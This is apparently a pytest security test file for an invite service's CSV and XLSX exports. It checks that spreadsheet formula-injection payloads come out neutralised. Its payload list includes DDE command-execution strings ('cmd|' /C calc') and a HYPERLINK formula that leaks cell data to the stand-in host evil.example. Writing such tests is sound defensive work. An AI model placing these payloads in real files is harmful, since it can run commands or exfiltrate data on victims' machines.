"""Spreadsheet formula injection in downloads: every CSV text cell a spreadsheet would evaluate, the header
row included, comes out with a leading apostrophe — ASCII and fullwidth triggers alike, and triggers hidden
behind zero-width characters or a byte order mark. An XLSX text cell is a typed string instead (shown as
written, never evaluated): no apostrophe, and no formula anywhere in the workbook."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from invite_service.kit.tabular.csv_out import neutralize
from tests.security.server import Server

JOB_DEADLINE_SECONDS = 60.0  # a guard against a hung job, not a timing assertion
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff"

# What an attacker puts in a file: each begins, visibly or not, with a formula character.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff0b1",  # fullwidth plus
    "\uff1d1+1",  # fullwidth equals
    "\uff0d1",  # fullwidth minus
    "\uff20SUM(1)",  # fullwidth at
    "\u200b=1+1",
    "\u200c+1",
    "\u200d-1",
    "\u2060@SUM(1)",
    "\ufeff=1+1",
    "\u200b\u200b\uff1d1",
]


def dangerous(value: str) -> bool:
    """A cell a spreadsheet would run: after any invisible characters, it starts with a trigger."""
    return value.lstrip(INVISIBLE).startswith(TRIGGERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralize_defuses_every_payload(payload: str) -> None:
    out = neutralize(payload)
    assert out == "'" + payload
    assert neutralize(out) == out  # applying it twice changes nothing


@pytest.mark.parametrize(
    "value", ["plain", "'=already", "a=b", "\u200bplain", "1+1", "", "Анна", "user@example"]
)
def test_neutralize_leaves_harmless_text_alone(value: str) -> None:
    assert neutralize(value) == value


def _wait_job(api: httpx.Client, h: dict[str, str], job_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + JOB_DEADLINE_SECONDS
    while time.monotonic() < deadline:
        job = api.get(f"/api/v1/import/jobs/{job_id}", headers=h).json()
        if job["status"] != "running":
            return dict(job)
        time.sleep(0.05)  # polling the condition; the deadline only guards a hung job
    raise AssertionError(f"import job {job_id} never finished")


def _rows(resp: httpx.Response) -> list[list[str]]:
    assert resp.status_code == 200, resp.text
    return list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))


def test_rejected_csv_neutralises_the_header_and_every_cell(server: Server) -> None:
    h = server.headers()
    with server.client() as api:
        task = api.post(
            "/api/v1/tasks",
            json={"name": "csv", "platform": "sandbox", "action": "invite", "destination": "@demo_chat"},
            headers=h,
        )
        assert task.status_code == 201, task.text
        header = ["username", *PAYLOADS]
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\n")
        writer.writerow(header)
        for payload in PAYLOADS:  # a username that is itself a payload: every row is rejected
            writer.writerow([payload, *PAYLOADS])
        resp = api.post(
            "/api/v1/import/file",
            headers=h,
            data={"task_id": task.json()["id"]},
            files={"file": ("audience.csv", buf.getvalue().encode())},
        )
        assert resp.status_code == 202, resp.text
        job = _wait_job(api, h, resp.json()["job_id"])
        assert job["status"] == "completed", job
        rows = _rows(api.get(f"/api/v1/import/jobs/{job['id']}/rejected.csv", headers=h))

    assert len(rows) == 1 + len(PAYLOADS), rows
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if dangerous(c)], [c for c in cells if dangerous(c)]
    # Every payload is in the file, as inert text: the header names the columns, the rows hold the cells.
    # (The file reader drops a byte order mark from a column name; the cell stays neutralised all the same.)
    n = len(PAYLOADS)
    expected = ["'" + p for p in PAYLOADS]
    assert [c.replace("\ufeff", "") for c in rows[0][-n:]] == [e.replace("\ufeff", "") for e in expected]
    assert all(row[-n:] == expected for row in rows[1:]), rows[1:]


def test_task_report_and_suppression_export_neutralise_with_the_same_rules(server: Server) -> None:
    h = server.headers()
    names = [p for p in PAYLOADS if not p.startswith(("\t", "\r"))]
    with server.client() as api:
        task = api.post(
            "/api/v1/tasks",
            json={
                "name": "\u200b=1+1",
                "platform": "sandbox",
                "action": "invite",
                "destination": "@demo_chat",
            },
            headers=h,
        )
        tid = task.json()["id"]
        targets = [{"username": f"safe_{i:03d}", "first_name": name} for i, name in enumerate(names)]
        added = api.post(f"/api/v1/tasks/{tid}/targets/bulk", json={"targets": targets}, headers=h)
        assert added.status_code == 200, added.text
        report_csv = _rows(api.get(f"/api/v1/tasks/{tid}/report", params={"format": "csv"}, headers=h))
        xlsx = api.get(f"/api/v1/tasks/{tid}/report", params={"format": "xlsx"}, headers=h)
        assert xlsx.status_code == 200, xlsx.text
        for i, note in enumerate(names):
            body = {"platform": "sandbox", "username": f"sup_{i:03d}", "reason": "manual", "note": note}
            assert api.post("/api/v1/suppressions", json=body, headers=h).status_code == 201
        export = _rows(api.get("/api/v1/suppressions/export.csv", headers=h))

    workbook = load_workbook(io.BytesIO(xlsx.content))
    xlsx_cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    for where, cells in (
        ("report.csv", [c for row in report_csv for c in row]),
        ("suppressions export", [c for row in export for c in row]),
    ):
        bad = [c for c in cells if dangerous(c)]
        assert not bad, (where, bad)
    assert {"'" + n for n in names} <= {c for row in report_csv for c in row}
    assert {"'" + n for n in names} <= {c for row in export for c in row}
    # XLSX: every payload as written, in a typed string cell; no formula in any sheet.
    typed = {c.value for c in xlsx_cells if c.data_type == "s"}
    assert set(names) <= typed
    assert "\u200b=1+1" in typed  # the task's name, on the Summary sheet
    assert not [c.value for c in xlsx_cells if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
